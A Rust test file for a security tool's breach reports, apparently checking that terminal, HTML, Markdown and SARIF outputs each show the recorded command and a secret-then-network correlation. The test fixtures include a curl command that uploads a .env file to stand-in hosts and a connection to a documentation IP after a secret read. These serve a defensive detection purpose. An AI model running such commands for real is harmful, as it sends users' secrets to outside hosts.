//! What every form has to tell, whatever its words: rendered from one report, looked for in each.

use super::samples::*;
use super::{Format, assemble, terminal};
use crate::model::report::Report;
use crate::model::{Act, Rule, Severity};

/// Each form as a reader sees it: without tags, entities and marks of its own.
fn forms(report: &Report) -> Vec<(&'static str, String)> {
    let written = |format: Format| {
        let mut out = Vec::new();
        format.write(report, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    };
    let read = |text: String| {
        let mut shown = text.replace("<code>", "").replace("</code>", "").replace("&amp;", "&").replace("&quot;", "\"");
        for c in (b'!'..=b'~').map(char::from).filter(char::is_ascii_punctuation) {
            shown = shown.replace(&format!("&#{};", c as u32), &c.to_string());
        }
        shown
    };
    let mut shown = Vec::new();
    terminal::after(&mut shown, report, None, terminal::Style::default()).unwrap();
    vec![
        ("terminal", String::from_utf8(shown).unwrap()),
        ("html", read(written(Format::Html))),
        ("markdown", read(written(Format::Markdown))),
        ("sarif", written(Format::Sarif).replace("\\\"", "\"")),
    ]
}

#[track_caller]
fn all_say(report: &Report, words: &[&str]) {
    for (form, text) in forms(report) {
        for word in words {
            assert!(text.contains(word), "{form} says no {word:?}:\n{text}");
        }
    }
}

fn run(words: &[&str]) -> Act {
    Act::Exec { path: "/usr/bin/curl".into(), argv: words.iter().map(|word| (*word).into()).collect() }
}

#[test]
fn what_was_run_is_told_with_its_words() {
    let mut material = material();
    let calls = ["http://h/one", "http://h/two", "http://h/three"];
    for url in calls {
        let act = run(&["curl", "-H", "X: a b", "-F", "file=@.env", url]);
        material.breaches.push(breach(BUILD, 400, act, Rule::ExecDownloader, Severity::High));
    }
    let report = assemble(&material, &facts(), &Graph);
    all_say(&report, &["curl -H \"X: a b\" -F file=@.env http://h/one", "http://h/two", "http://h/three"]);
    // One alone, too.
    material.breaches.truncate(1);
    all_say(&assemble(&material, &facts(), &Graph), &["file=@.env http://h/one"]);
}

#[test]
fn a_correlation_names_the_secret_and_the_way_out() {
    let mut material = stolen_env();
    material.breaches.push(breach(BUILD, 400, connect("203.0.113.7:443"), Rule::NetConnect, Severity::High));
    let mut report = assemble(&material, &facts(), &Graph);
    // Nothing but the correlation, so that nobody else says it.
    report.findings.retain(|finding| finding.rule == Rule::SecretThenNetwork);
    report.behaviour.clear();
    all_say(&report, &["{workspace}/.env", "203.0.113.7:443"]);
}
